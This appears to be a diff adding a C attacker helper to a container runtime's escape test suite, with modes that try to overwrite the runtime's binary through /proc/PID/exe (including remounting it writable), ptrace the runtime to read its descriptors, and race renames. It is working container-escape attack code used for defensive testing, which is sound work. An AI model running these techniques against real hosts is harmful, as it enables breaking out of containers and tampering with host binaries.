@@ -1,0 +1,226 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * What escapes.bats runs inside a container: the hostile half of each attack
+ * that a shell is too slow for. Static, since it is put into foreign roots.
+ *
+ *   attacker exe SECONDS        take /proc/PID/exe of whoever comes in, write to it later
+ *   attacker trace SECONDS      attach to whoever comes in, and take its descriptors
+ *   attacker exchange A B SECONDS    exchange two names without end
+ *
+ * It prints one line for each thing it got, and one for each that it was refused.
+ */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/mount.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define PIDS_MAX	32768
+
+static time_t deadline;
+
+static bool is_over(void)
+{
+	return time(NULL) >= deadline;
+}
+
+/* Each process that was not there before, once. */
+static pid_t next_newcomer(void)
+{
+	static bool is_known[PIDS_MAX];
+	static DIR *proc;
+	struct dirent *entry;
+
+	if (!proc)
+		proc = opendir("/proc");
+	while (proc && (entry = readdir(proc))) {
+		int pid = atoi(entry->d_name);
+
+		if (pid <= 0 || pid >= PIDS_MAX || is_known[pid] || pid == getpid())
+			continue;
+		is_known[pid] = true;
+		return pid;
+	}
+	if (proc)
+		rewinddir(proc);
+	return 0;
+}
+
+/* ---- exe ---- */
+
+static bool is_same(const struct stat *st, const char *path)
+{
+	struct stat other;
+
+	return stat(path, &other) == 0 && other.st_dev == st->st_dev && other.st_ino == st->st_ino;
+}
+
+/* Of a program that the container does not have: the runtime's. */
+static int open_foreign_exe(pid_t pid)
+{
+	char path[40];
+	struct stat st;
+	int fd;
+
+	(void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return -1;
+	if (fstat(fd, &st) < 0 || is_same(&st, "/proc/self/exe") || is_same(&st, "/bin/busybox")) {
+		(void)close(fd);
+		return -1;
+	}
+	return fd;
+}
+
+/* As its mount may be changed by whoever has CAP_SYS_ADMIN where it is mounted. */
+static void try_remount(int fd)
+{
+	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
+
+	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
+		printf("remounted it\n");
+	fd = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
+	if (fd >= 0 && syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
+		printf("cloned and remounted it\n");
+}
+
+static void overwrite(int fd)
+{
+	static const char text[] = "#!/bin/evil\n";
+	char path[40];
+	int out = -1;
+
+	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	(void)fchmod(fd, 0777);
+	try_remount(fd);
+	while (out < 0 && !is_over()) {
+		out = open(path, O_WRONLY);
+		if (out < 0 && errno != ETXTBSY)
+			break;
+	}
+	if (out < 0)
+		printf("refused: %s\n", strerror(errno));
+	else if (write(out, text, sizeof(text) - 1) > 0)
+		printf("wrote\n");
+	(void)close(out);
+}
+
+static void attack_exe(void)
+{
+	printf("ready\n");
+	while (!is_over()) {
+		pid_t pid = next_newcomer();
+		int fd = -1, tries;
+
+		/* Before its execve() it is out of reach; the link is that of the new program then. */
+		for (tries = 0; pid && fd < 0 && tries < 3000 && !is_over(); tries++)
+			fd = open_foreign_exe(pid);
+		if (fd < 0)
+			continue;
+		printf("caught\n");
+		overwrite(fd);
+		return;
+	}
+	printf("nothing came\n");
+}
+
+/* ---- trace ---- */
+
+static void take_descriptors(pid_t pid)
+{
+	char path[40], target[300];
+	int number;
+
+	for (number = 3; number < 16; number++) {
+		ssize_t len;
+
+		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, number);
+		len = readlink(path, target, sizeof(target) - 1);
+		if (len > 0)
+			printf("took descriptor %d: %.*s\n", number, (int)len, target);
+	}
+}
+
+/* Whether it is still the runtime: its name changes with execve(). */
+static bool is_runtime(pid_t pid)
+{
+	char path[40], name[20] = "";
+	FILE *file;
+
+	(void)snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
+	file = fopen(path, "r");
+	if (!file)
+		return false;
+	if (!fgets(name, sizeof(name), file))
+		name[0] = '\0';
+	(void)fclose(file);
+	return strncmp(name, "vps", 3) == 0;
+}
+
+static void attach(pid_t pid)
+{
+	static long refused;
+
+	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
+		if (errno == EPERM && ++refused == 1)
+			printf("refused: %s\n", strerror(errno));
+		return;
+	}
+	(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+	(void)waitpid(pid, NULL, __WALL);
+	if (is_runtime(pid))
+		printf("attached to the runtime\n");
+	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
+static void attack_trace(void)
+{
+	printf("ready\n");
+	while (!is_over()) {
+		pid_t pid = next_newcomer();
+		int tries;
+
+		for (tries = 0; pid && tries < 50; tries++) {
+			if (is_runtime(pid))
+				take_descriptors(pid);
+			attach(pid);
+		}
+	}
+}
+
+/* ---- exchange ---- */
+
+static void exchange(const char *a, const char *b)
+{
+	while (!is_over())
+		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
+}
+
+int main(int argc, char **argv)
+{
+	if (argc < 3)
+		return 2;
+	(void)setvbuf(stdout, NULL, _IOLBF, 0);
+	deadline = time(NULL) + atoi(argv[argc - 1]);
+	if (strcmp(argv[1], "exe") == 0)
+		attack_exe();
+	else if (strcmp(argv[1], "trace") == 0)
+		attack_trace();
+	else if (strcmp(argv[1], "exchange") == 0 && argc == 5)
+		exchange(argv[2], argv[3]);
+	else
+		return 2;
+	return 0;
+}
